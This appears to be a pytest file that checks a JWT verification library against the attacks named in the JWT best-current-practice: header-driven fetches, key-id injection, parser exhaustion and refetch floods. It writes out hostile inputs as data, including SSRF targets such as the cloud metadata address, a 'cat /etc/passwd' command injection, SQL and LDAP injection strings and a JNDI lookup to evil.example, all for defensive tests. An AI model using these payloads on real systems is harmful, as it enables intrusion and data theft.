"""The JWT BCP's attacks on what lies around a verifier: the network, files, memory, time; by the digest's numbers.

Mallory sends tokens that ask for something to be fetched, opened, parsed for ever, or fetched again and again.
"""

import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from deputize.core.published import Published
from deputize.core.rules import Fault
from deputize.core.wire import b64u, json_bytes
from deputize.jose import jwt
from deputize.jose.jwt import COMPACT, SIGNED
from deputize.jose.keys import KeySet
from tests.core.outside import Outside
from tests.jose.making import a_key, an_expectation, claims, signed, why_not

_watched: list[list[str]] = []


def _note(event: str, _: object) -> None:
    if _watched and event.partition(".")[0] in {"open", "os", "socket", "subprocess", "sqlite3", "urllib", "http"}:
        _watched[-1].append(event)


sys.addaudithook(_note)  # Python's own list of what reaches out; a hook stays, and sleeps when nobody watches


@contextmanager
def watched() -> Iterator[list[str]]:
    """What of the world was touched meanwhile."""
    seen: list[str] = []
    _watched.append(seen)
    try:
        yield seen
    finally:
        _watched.pop()


def test_the_watch_sees(tmp_path: Path) -> None:
    with watched() as seen:
        (tmp_path / "file").touch()
    assert seen


PLACES = [
    "http://169.254.169.254/latest/meta-data",
    "https://127.0.0.1/jwks",
    "https://localhost.evil.example/jwks",
    "file:///etc/passwd",
    "https://evil.example/redirect?to=http://10.0.0.1/",
]


@pytest.mark.parametrize("name", ["jku", "x5u", "x5c", "x5t", "x5t#S256"])
@pytest.mark.parametrize("place", PLACES)
def test_bcp_12_no_request_leaves_for_a_header(name: str, place: str) -> None:
    evil = a_key("ES256", 1)
    why_not(signed())  # what is loaded once is loaded
    with watched() as seen:
        assert why_not(signed({name: [place] if name == "x5c" else place}, key=evil)) is SIGNED
        assert why_not(signed({name: place, "kid": a_key().kid}, key=evil)) is SIGNED
        assert why_not(signed({name: place})) is None
    assert not seen


KIDS = [
    "' OR 1=1--",
    "*)(uid=*))(|(uid=*",
    "../../../../../../dev/null",
    "/dev/null",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "; cat /etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "",
    " ",
    "ec1 ",
    "k" * 256,
]


@pytest.mark.parametrize("kid", KIDS)
def test_bcp_13_a_key_id_is_a_name_and_nothing_else(kid: str) -> None:
    why_not(signed())
    with watched() as seen:
        assert why_not(signed({"kid": kid})) is SIGNED
        assert why_not(signed({"kid": kid}, key=a_key("ES256", 1))) is SIGNED
    assert not seen


@pytest.mark.parametrize("kid", ["key\x00", "a\nb", "\x1b[2J", "a\u202eb", "k" * 257, "k" * 10_000, 7, None, ["a"], {}])
def test_bcp_13_a_key_id_is_printable_and_short(kid: object) -> None:
    assert why_not(signed({"kid": kid})) is COMPACT


HEAD = b64u(json_bytes({"typ": "at+jwt", "alg": "ES256"}))
COSTLY_CLAIMS = {
    "100 000 levels": b"[" * 100_000,
    "as deep as fits": b"[" * 12_000,
    "objects as deep as fits": b'{"a":' * 2_000 + b"1" + b"}" * 2_000,
    "a number of a million digits": b'{"exp":' + b"1" * 1_000_000 + b"}",
    "a number of ten thousand digits": b'{"exp":' + b"1" * 10_000 + b"}",
    "quotes that never close": b"[" * 21 + b'"' + b'\\"' * 6_000,
    "a thousand members of one name": b"{" + b'"a":1,' * 1_000 + b'"b":1}',
}
COSTLY = {what: f"{HEAD}.{b64u(told)}.AAAA" for what, told in COSTLY_CLAIMS.items()} | {
    "a header of 1 MB": f"{b64u(b' ' * 1_000_000)}.{HEAD}.AAAA",
    "ten thousand dots": "." * 10_000,
    "a million dots": "." * 1_000_000,
    "a signature of 10 kB": f"{signed().rpartition('.')[0]}.{b64u(bytes(10_000))}",
}


@pytest.mark.parametrize("what", COSTLY)
def test_bcp_30_nothing_costs_much(what: str) -> None:
    begun = time.process_time()
    assert why_not(COSTLY[what]) in {COMPACT, SIGNED}
    assert time.process_time() - begun < 0.1


JWKS = "https://as.example/jwks"


async def test_bcp_32_a_flood_of_unknown_key_ids_makes_one_look_a_window() -> None:
    """A thousand names that nobody has; then the issuer is down, and its keys still work (CVE-2026-48524)."""
    outside = Outside({JWKS: {"keys": [a_key().public_jwk()]}})
    published = Published(read=KeySet.from_jwks)

    async def keys_for(token: str) -> KeySet:
        parsed, _ = jwt.peek(token, "invalid_token")
        keys = await published.get(JWKS, outside.env)
        if not keys.candidates(parsed.kid, parsed.alg):
            keys = await published.get(JWKS, outside.env, fresher=True)
        return keys

    for number in range(1_000):
        keys = await keys_for(signed({"kid": f"unknown-{number}"}))
        assert not keys.candidates(f"unknown-{number}", "ES256")
    assert len(outside.calls) == 1
    outside.later(60)
    outside.answers[JWKS] = Fault("down", retry=True)
    for number in range(1_000):
        await keys_for(signed({"kid": f"unknown-{number}"}))
    assert len(outside.calls) == 2
    token = signed({}, claims())
    assert jwt.verify(token, await keys_for(token), an_expectation(), outside.now).text("sub") == "alice"
    outside.later(60)
    outside.answers[JWKS] = {"keys": [a_key().public_jwk(), a_key("ES256", 1).public_jwk()]}
    fresh = signed(key=a_key("ES256", 1))
    assert (await keys_for(fresh)).candidates(a_key("ES256", 1).kid, "ES256")
    assert len(outside.calls) == 3
